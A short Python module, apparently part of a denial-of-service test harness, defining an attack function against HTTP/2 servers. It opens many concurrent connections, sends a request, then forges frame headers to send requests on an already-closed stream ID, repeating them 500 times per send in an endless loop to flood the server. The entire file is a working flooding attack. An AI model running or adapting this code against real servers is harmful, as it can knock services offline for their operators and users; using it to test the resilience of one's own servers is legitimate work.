"""Requests on streams that have been closed, as fast as the server takes them."""

import wire


def attack(victim):
    def flood(_):
        connection = victim.http2()
        try:
            stream, asked = connection.request("/healthz")
            connection.send(asked)
            connection.drain(0.1)
            again = connection.request("/healthz")[1]
            again = (again[:5] + stream.to_bytes(4, "big") + again[9:]) * 500
            while True:
                connection.send(again)
                connection.drain()
        finally:
            connection.close()

    wire.crowd(1 * victim.scale, flood)
    victim.begun()
